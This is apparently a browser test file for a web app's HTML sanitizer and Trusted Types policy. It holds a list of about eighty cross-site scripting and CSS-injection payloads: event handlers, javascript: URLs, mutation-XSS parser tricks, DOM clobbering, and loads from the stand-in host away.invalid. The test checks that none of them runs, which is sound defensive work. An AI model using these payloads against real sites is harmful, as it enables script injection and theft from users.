/** Hostile texts, as written by a compromised configurator: none of them runs, loads anything or violates the policy. */
import { expect, test } from "#tests/support/browser.ts";
import { demo, enter, publish } from "#tests/support/programme.ts";

const ran = "window.ran=(window.ran??0)+1";
const away = "https://away.invalid/x";

const texts = [
  '<p style="color:red">a</p>',
  "<p style='background:url(https://away.invalid/x)'>a</p>",
  "<p style=color:red>a</p>",
  '<P STYLE="color:red">a</P>',
  '<p/style="color:red">a</p>',
  '<p\nstyle\n=\n"color:red">a</p>',
  '<p style="color:red" style="color:blue">a</p>',
  '<p style="width:expression(alert(1))">a</p>',
  '<p title="a" style="&#99;olor:red">a</p>',
  '<body style="color:red">a</body>',
  '<html style="color:red"><body>a',
  '<table style="color:red"><tr style="x:y"><td style="x:y">a</td></tr></table>',
  '<svg style="color:red"><g style="x:y"></g></svg>',
  '<math style="color:red"><mi style="x:y">a</mi></math>',
  '<template><p style="color:red">a</p></template>',
  '<noscript><p style="color:red">a</p></noscript>',
  "<div><template><style>p{color:red}</style></template></div>",
  "<style>p{color:red}</style>",
  "<style>@import 'https://away.invalid/x';</style>a",
  "<p>a</p><style>body{background:url(https://away.invalid/x)}</style>",
  "<svg><style>p{color:red}</style></svg>",
  "<math><style>p{color:red}</style></math>",
  "<style><p title='</style><p style=color:red>'></style>a",
  "<style nonce=a>p{color:red}</style>",
  `<link rel="stylesheet" href="${away}">`,
  `<link rel="preload" as="script" href="${away}">`,
  `<base href="${away}">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
  `<script>${ran}</script>`,
  `<script src="${away}"></script>`,
  `<SCRIPT type=module>${ran}</SCRIPT>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><script href="${away}"></script></svg>`,
  `<math><script>${ran}</script></math>`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `<img src=x onerror="${ran}">`,
  `<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" onerror="${ran}">`,
  `<img src='x'onerror=${ran}>`,
  `<img/src/onerror=${ran}>`,
  `<img srcset="${away}" src=x onerror="${ran}">`,
  `<svg onload="${ran}"></svg>`,
  `<svg><animate onbegin="${ran}" attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="javascript:${ran}" /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload='${ran}'/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${ran}"></foreignObject></svg>`,
  `<body onload="${ran}">a`,
  `<p onclick="${ran}" onmouseover="${ran}">a</p>`,
  `<p onfocus="${ran}" tabindex=0 autofocus>a</p>`,
  `<details open ontoggle="${ran}">a</details>`,
  `<marquee onstart="${ran}">a</marquee>`,
  `<video autoplay src=x onerror="${ran}"></video>`,
  `<video><source onerror="${ran}" src=x></video>`,
  `<audio src=x onerror="${ran}"></audio>`,
  `<input autofocus onfocus="${ran}">`,
  `<select autofocus onfocus="${ran}"></select>`,
  `<form action="javascript:${ran}"><button formaction="javascript:${ran}">a</button></form>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<iframe src="javascript:parent.${ran}"></iframe>`,
  `<object data="javascript:${ran}"></object>`,
  `<embed src="data:text/html,<script>${ran}</script>">`,
  `<a href="javascript:${ran}">a</a>`,
  `<a href="&#106;avascript:${ran}">a</a>`,
  `<a href="data:text/html,<script>${ran}</script>">a</a>`,
  `<a href="x" ping="${away}">a</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>"></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=${ran}>"></noembed>`,
  `<textarea></textarea><img src=x onerror="${ran}">`,
  `<title><p title="</title><img src=x onerror=${ran}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${ran}>">`,
  `<!--><img src=x onerror="${ran}">-->`,
  `<!--<img title="--><img src=x onerror=${ran}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ran}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${ran}>">`,
  `<form id=x><input name=attributes><input name=parentNode></form><img name=body id=body src=x onerror="${ran}">`,
  `<div><div shadowrootmode=open><style>p{color:red}</style></div><template shadowrootmode=open><img src=x onerror="${ran}"></template></div>`,
  `<x-a is="x-b" onclick="${ran}" style="color:red">a</x-a>`,
];

test.describe("images of no server", () => {
  // Browsers say so of each image that does not exist.
  test.use({ allowConsole: [/status of 404/] });

  test("CH-1.9 of seventy hostile texts on one page, none runs, loads anything or violates the policy", async ({
    page,
  }) => {
    expect(new Set(texts).size).toBeGreaterThanOrEqual(70);
    test
      .info()
      .annotations.push({ type: "tried", description: String(texts.length) });
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    const id = await publish("Textes hostiles", [
      ...texts.map((text, index) => ({ type: "text", position: index, text })),
      { type: "text", position: texts.length, text: "<p>Le dernier</p>" },
    ]);
    await enter(page, {
      email: demo.configurator.email,
      path: `/content/${id}`,
    });
    const last = page.getByText("Le dernier");
    for (
      let step = 0;
      !(await last.isVisible()) && step < texts.length;
      step += 1
    )
      await page.mouse.wheel(0, 600);
    await expect(last).toBeVisible();
    const main = page.getByRole("main");
    await expect(
      main.locator(
        "script, style, svg:has(animate, use, script, set), math, iframe, object, embed, form, [onerror], [onload], [href^='java' i]",
      ),
    ).toHaveCount(0);
    expect(await page.evaluate(() => "ran" in window)).toBe(false);
    expect(asked.filter((url) => url.includes("away.invalid"))).toEqual([]);
  });
});

test.describe("a script that assigns text as markup, or loads a foreign file", () => {
  test.use({ allowConsole: [/Trusted|trusted-types/] });

  test("is blocked", async ({ page }) => {
    await page.goto("/fo/auth");
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    const tell = await page.evaluate(() => {
      const markup = (where: Element) => {
        where.innerHTML = "<b>markup</b>";
      };
      const load = (address: string) => {
        document.createElement("script").src = address;
      };
      const attempts: Record<string, () => unknown> = {
        markup: () => markup(document.createElement("div")),
        "markup after the page": () =>
          document.body.insertAdjacentHTML("beforeend", "<b>markup</b>"),
        frame: () => {
          document.createElement("iframe").srcdoc = "<b>markup</b>";
        },
        "script of another site": () => load("https://away.invalid/x.js"),
        "what people send": () => load("/v2/media-objects/x/content"),
        worker: () => new Worker("/v2/media-objects/x/content"),
        policy: () =>
          (
            window as unknown as {
              trustedTypes: { createPolicy(name: string, rules: object): void };
            }
          ).trustedTypes.createPolicy("own", {}),
        text: () => {
          document.createElement("div").innerHTML = "text";
        },
        "a file of the front office": () => load("/fo/assets/x.js"),
      };
      return Object.entries(attempts).map(([name, attempt]) => {
        try {
          attempt();
          return `${name}: done`;
        } catch (error) {
          return `${name}: ${(error as Error).name}`;
        }
      });
    });
    expect(tell).toEqual([
      "markup: TypeError",
      "markup after the page: TypeError",
      "frame: TypeError",
      "script of another site: TypeError",
      "what people send: TypeError",
      "worker: TypeError",
      "policy: TypeError",
      "text: done",
      "a file of the front office: done",
    ]);
  });
});
